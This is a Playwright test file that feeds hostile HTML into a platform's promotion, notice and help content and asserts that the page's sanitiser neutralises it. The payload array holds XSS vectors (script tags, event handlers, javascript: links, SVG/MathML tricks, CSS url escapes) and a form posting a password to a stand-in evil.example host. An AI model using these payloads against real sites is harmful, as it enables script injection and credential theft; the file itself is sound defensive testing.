// Platform HTML with attacks in it (script tags, event handlers, javascript:
// URLs, iframes, SVG and MathML payloads, foreign images, media and CSS that
// loads, forms, meta refresh, base, object): help (popup), promotion (detail)
// and notice (detail, list preview, popup) content render their text and none
// of their behaviour in Chromium: no dialog, no script effect, no request to a
// foreign origin. The answers are the platform's own, with the payload put
// into their HTML on the way to the page.
import type { Page } from '@playwright/test';
import { BRANDS, PLATFORM, brandUrl, expect, hydrated, test } from './fixtures.ts';
import { answerChanged, quietPage } from './content-fixtures.ts';
import { client } from './players.ts';
import { brandStrings } from './strings.ts';
import enContent from '../../src/i18n/locales/en/content.json' with { type: 'json' };

// The scopes handed to expectHarmless() are the boxes of platform HTML (and the notice preview, plain text):
// the sanitised structure under test, with no role of its own, so they stay CSS. Controls are found by role.

// The hostile HTML these tests serve is parsed in an inert DOMParser document
// (app/rules/harden-html.ts), where nothing runs or loads; that document shares
// the page's content security policy, and Chromium still reports the inline
// handlers and <base> it meets there as blocked. Those reports are expected here.
test.use({ expectedConsole: /violates the following Content Security Policy directive/ });

const PAYLOAD = [
  '<p>Visible text A</p>',
  "<script>window.__pwned='script';alert('script')</script>",
  '<img src="x" onerror="window.__pwned=\'onerror\';alert(1)">',
  '<p onclick="window.__pwned=\'onclick\'" onmouseover="window.__pwned=\'hover\'">Click text B</p>',
  '<a class="evil-link" href="javascript:window.__pwned=\'js\';alert(2)">Link text C</a>',
  '<iframe src="https://evil.example/frame" onload="window.__pwned=\'iframe\'"></iframe>',
  '<svg onload="window.__pwned=\'svg\'"><script>window.__pwned=\'svgscript\'</script><image href="https://evil.example/svg.png"/><text>svg text</text></svg>',
  '<math><mtext><img src=x onerror="window.__pwned=\'math\'"></mtext></math>',
  '<img src="https://evil.example/pixel.png" alt="pixel">',
  '<video poster="https://evil.example/poster.png" src="https://evil.example/v.mp4" autoplay></video>',
  '<audio src="https://evil.example/a.mp3" autoplay></audio>',
  '<p style="background:u\\72l(https://evil.example/css.png)">Styled text D</p>',
  '<p style="background-image:image-set(\'https://evil.example/set.png\' 1x)">Styled text E</p>',
  '<form action="https://evil.example/steal"><input name="password"><button>Send</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  '<details open ontoggle="window.__pwned=\'toggle\'"><summary>Summary text F</summary></details>',
  // Not an attack: a pixel size, which popups show in popup rem (game spec section 9).
  '<p class="sized" style="font-size:28px">Sized text up to 1080px</p>',
].join('');

const TEXTS = ['Visible text A', 'Click text B', 'Link text C', 'Styled text D', 'Styled text E', 'Summary text F'];

/** Every `content` field of an answer with the payload put in front. */
function poisoned(v: unknown): unknown {
  if (Array.isArray(v)) return v.map(poisoned);
  if (v && typeof v === 'object')
    return Object.fromEntries(Object.entries(v).map(([k, x]) => [k, k === 'content' && typeof x === 'string' ? PAYLOAD + x : poisoned(x)]));
  return v;
}

async function guard(page: Page, allowedHosts: string[]) {
  const dialogs: string[] = [];
  const foreign: string[] = [];
  page.on('dialog', async (d) => {
    dialogs.push(d.message());
    await d.dismiss();
  });
  page.on('request', (r) => {
    const url = new URL(r.url());
    if (url.protocol === 'data:' || url.protocol === 'blob:') return;
    if (!allowedHosts.includes(url.host)) foreign.push(r.url());
  });
  await page.route(/\/api\/(content\/announcements\?|content\/notices|comm\/help)/, (route) => answerChanged(route, poisoned));
  return { dialogs, foreign };
}

async function expectHarmless(page: Page, scope: string, seen: { dialogs: string[]; foreign: string[] }) {
  // `scope` is the CSS of the block the platform's HTML lands in: a plain block with no role, whose markup is what is checked.
  const box = page.locator(scope).first();
  await expect(box).toBeVisible();
  for (const text of TEXTS) await expect(box).toContainText(text);
  // Nothing executable or loading made it into the DOM: a scan of every element the sanitiser let through, whatever its role.
  const bad = await box.evaluate((el) => ({
    elements: [...el.querySelectorAll('script, iframe, svg, math, object, embed, form, input, video, audio, source, base, meta, link, style')].map(
      (e) => e.tagName,
    ),
    handlers: [...el.querySelectorAll('*')].flatMap((e) => [...e.attributes].filter((a) => /^on/i.test(a.name)).map((a) => `${e.tagName}.${a.name}`)),
    jsLinks: [...el.querySelectorAll('[href], [src], [action], [poster]')]
      .filter((e) => /javascript:|evil\.example/i.test(e.outerHTML))
      .map((e) => e.outerHTML),
    styles: [...el.querySelectorAll('[style]')].map((e) => e.getAttribute('style')).filter((s) => /url|image-set|\\/i.test(s ?? '')),
  }));
  expect(bad).toEqual({ elements: [], handlers: [], jsLinks: [], styles: [] });
  // Touching the content does nothing either. The hostile link may have lost its href (and with it the link role):
  // found by its class or its text.
  const link = box.locator('a.evil-link, a:has-text("Link text C")').first();
  if (await link.count()) await link.click({ force: true });
  await box.getByText('Click text B').first().hover();
  await box.getByText('Click text B').first().click({ force: true });
  // A handler runs inside the click and a javascript: link in a task after it: one frame and a task later both have.
  await page.evaluate(() => new Promise((done) => requestAnimationFrame(() => setTimeout(done))));
  expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();
  expect(seen.dialogs).toEqual([]);
  expect(seen.foreign).toEqual([]);
}

for (const brand of BRANDS) {
  test.describe(`${brand.id} sanitised platform HTML`, () => {
    const hosts = () => [new URL(brandUrl(brand)).host, new URL(PLATFORM).host];

    test('promotion detail', async ({ page }) => {
      const seen = await guard(page, hosts());
      const { promotion } = await client(PLATFORM, brand).announcements({ types: 'PR', platform: 'M' });
      await quietPage(page);
      await page.goto(brandUrl(brand, `/m/activity?id=${promotion[0]!.id}`));
      await hydrated(page);
      await expectHarmless(page, '.lk-promo-detail .lk-content-html', seen);
      await expect(page).toHaveURL(brandUrl(brand, `/m/activity?id=${promotion[0]!.id}`));
    });

    test('notice detail and list preview', async ({ page }) => {
      const seen = await guard(page, hosts());
      const { list } = await client(PLATFORM, brand).notices({ pageSize: 50 });
      await quietPage(page);
      await page.goto(brandUrl(brand, '/m/notice'));
      await hydrated(page);
      // The preview is plain text: no markup at all. Its box (a paragraph of the row, no role of its own) is what is read.
      const preview = page.locator('.lk-notice__preview').first();
      await expect(preview).toContainText('Visible text A');
      expect(await preview.evaluate((el) => el.children.length)).toBe(0);
      await page.goto(brandUrl(brand, `/m/noticeDetail?id=${list[0]!.id}`));
      await hydrated(page);
      await expectHarmless(page, '.lk-notice-detail__content', seen);
    });

    test('help popup', async ({ page }) => {
      test.skip(!brand.layout.homeSections.some((s) => s.type === 'footer'), 'no footer to open the help popup from');
      const seen = await guard(page, hosts());
      await quietPage(page);
      await page.goto(brandUrl(brand, '/m/home'));
      await hydrated(page);
      const c = brandStrings(brand, 'content', enContent);
      // The footer is an unnamed home <section> (data-section: the layout's type).
      const help = page.locator('[data-section="footer"]').getByRole('button', { name: c.footer.help, exact: true });
      // Home sections mount as they near the viewport: scroll on until the footer has.
      await expect
        .poll(async () => {
          await page.mouse.wheel(0, 1500);
          return help.count();
        })
        .toBeGreaterThan(0);
      await help.click();
      await expectHarmless(page, '.lk-help-popup .lk-help-item[open] .lk-content-html', seen);
    });

    test('notice popup', async ({ page }) => {
      const seen = await guard(page, hosts());
      await quietPage(page, { popups: true });
      await page.goto(brandUrl(brand, '/m/home'));
      await hydrated(page);
      // The always-on layer listens for the first input once it is there. Its code comes in after the page's own,
      // which on a busy machine took more than the default 10 s once.
      await expect(page.getByRole('button', { name: brandStrings(brand, 'content', enContent).support.open, exact: true })).toBeVisible({
        timeout: 30_000,
      });
      await page.keyboard.press('Shift');
      await expectHarmless(page, '.lk-notice-popup .lk-slides__slide:not([inert]) .lk-content-html', seen);
      // 28 design px = 0.28 popup rem = 0.28 of a 7.5th of the screen width; the text keeps its "1080px".
      // The popup's shown slide (not inert) and the element the hostile HTML sized: markup measured, no role.
      const sized = page.locator('.lk-notice-popup .lk-slides__slide:not([inert]) .sized');
      await expect(sized).toHaveText('Sized text up to 1080px');
      const width = page.viewportSize()!.width;
      expect(parseFloat(await sized.evaluate((el) => getComputedStyle(el).fontSize))).toBeCloseTo((Math.min(width, 560) / 7.5) * 0.28, 1);
    });
  });
}
